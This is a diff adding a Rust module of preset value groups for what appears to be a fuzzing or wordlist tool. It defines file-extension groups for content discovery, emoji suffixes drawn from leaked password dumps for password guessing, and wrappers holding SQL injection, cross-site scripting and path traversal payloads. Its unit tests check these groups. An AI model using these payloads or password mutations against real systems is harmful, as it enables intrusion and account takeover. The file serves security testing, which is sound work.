@@ -0,0 +1,169 @@
+//! Curated value groups shipped with the crate.
+
+/// Extension preset names accepted by [`extension_preset`].
+pub const EXTENSION_PRESETS: &[&str] = &["web", "backup", "source", "archive", "office"];
+
+/// Extensions belonging to a named preset group.
+pub fn extension_preset(name: &str) -> Option<&'static [&'static str]> {
+    let extensions: &[&str] = match name {
+        "web" => &[
+            ".html", ".htm", ".php", ".asp", ".aspx", ".jsp", ".js", ".json", ".xml", ".txt",
+            ".cgi",
+        ],
+        "backup" => &[".bak", ".old", ".orig", ".save", "~", ".swp", ".tmp"],
+        "source" => &[
+            ".c", ".h", ".cpp", ".py", ".rb", ".go", ".rs", ".java", ".cs", ".js", ".ts", ".php",
+            ".sh",
+        ],
+        "archive" => &[
+            ".zip", ".tar", ".tar.gz", ".tgz", ".gz", ".bz2", ".xz", ".7z", ".rar",
+        ],
+        "office" => &[
+            ".doc", ".docx", ".xls", ".xlsx", ".ppt", ".pptx", ".pdf", ".odt", ".ods", ".csv",
+            ".rtf",
+        ],
+        _ => return None,
+    };
+    Some(extensions)
+}
+
+/// Suffix preset names accepted by [`suffix_preset`].
+pub const SUFFIX_PRESETS: &[&str] = &["emoji"];
+
+/// Appends belonging to a named preset group.
+pub fn suffix_preset(name: &str) -> Option<&'static [&'static str]> {
+    let suffixes: &[&str] = match name {
+        // the emoji most seen ending passwords in public dumps, plus
+        // pairs of the commonest; several are multi-codepoint sequences
+        "emoji" => &[
+            "😀",
+            "😂",
+            "🤣",
+            "😍",
+            "😘",
+            "😊",
+            "😎",
+            "😉",
+            "🙂",
+            "😭",
+            "😈",
+            "💀",
+            "👍",
+            "👌",
+            "🙏",
+            "💪",
+            "👑",
+            "💯",
+            "🔥",
+            "✨",
+            "⭐",
+            "🌟",
+            "🌹",
+            "🌸",
+            "🍀",
+            "🎉",
+            "💎",
+            "💰",
+            "⚽",
+            "🐶",
+            "🐱",
+            "🦄",
+            "❤️",
+            "💕",
+            "💖",
+            "💙",
+            "💜",
+            "🖤",
+            "♥",
+            "☺",
+            "❤️❤️",
+            "😂😂",
+            "🔥🔥",
+            "💯💯",
+            "👍👍",
+            "😍😍",
+        ],
+        _ => return None,
+    };
+    Some(suffixes)
+}
+
+/// Wrap preset names accepted by [`wrap_preset`].
+pub const WRAP_PRESETS: &[&str] = &["sqli", "xss", "traversal"];
+
+/// Injection scaffolding belonging to a named preset group, as the text
+/// put before and after each word.
+pub fn wrap_preset(name: &str) -> Option<&'static [(&'static str, &'static str)]> {
+    let wraps: &[(&str, &str)] = match name {
+        "sqli" => &[
+            ("'", "'--"),
+            ("\"", "\"--"),
+            ("", "'"),
+            ("", "' OR '1'='1"),
+            ("", "' OR 1=1-- -"),
+            ("", "\" OR \"1\"=\"1"),
+            ("", "') OR ('1'='1"),
+            ("", "' UNION SELECT NULL-- -"),
+            ("", "' AND SLEEP(5)-- -"),
+        ],
+        "xss" => &[
+            ("<script>", "</script>"),
+            ("\"><script>", "</script>"),
+            ("<img src=x onerror=", ">"),
+            ("<svg onload=", ">"),
+            ("\"><svg onload=", ">"),
+            ("javascript:", ""),
+            ("'-", "-'"),
+        ],
+        "traversal" => &[
+            ("../", ""),
+            ("../../", ""),
+            ("../../../", ""),
+            ("../../../../", ""),
+            ("..%2f", ""),
+            ("..%2f..%2f", ""),
+            ("%2e%2e%2f%2e%2e%2f", ""),
+            ("....//....//", ""),
+            ("..\\", ""),
+            ("..\\..\\", ""),
+        ],
+        _ => return None,
+    };
+    Some(wraps)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_extension_presets() {
+        for name in EXTENSION_PRESETS {
+            assert!(extension_preset(name).is_some());
+        }
+        assert!(extension_preset("backup").unwrap().contains(&"~"));
+        assert!(extension_preset("nope").is_none());
+    }
+
+    #[test]
+    fn test_suffix_presets() {
+        for name in SUFFIX_PRESETS {
+            assert!(suffix_preset(name).is_some());
+        }
+        let emoji = suffix_preset("emoji").unwrap();
+        assert!(emoji.contains(&"❤️"));
+        assert!(emoji.iter().all(|suffix| !suffix.is_ascii()));
+        assert!(suffix_preset("nope").is_none());
+    }
+
+    #[test]
+    fn test_wrap_presets() {
+        for name in WRAP_PRESETS {
+            assert!(wrap_preset(name).is_some());
+        }
+        assert!(wrap_preset("xss")
+            .unwrap()
+            .contains(&("<script>", "</script>")));
+        assert!(wrap_preset("nope").is_none());
+    }
+}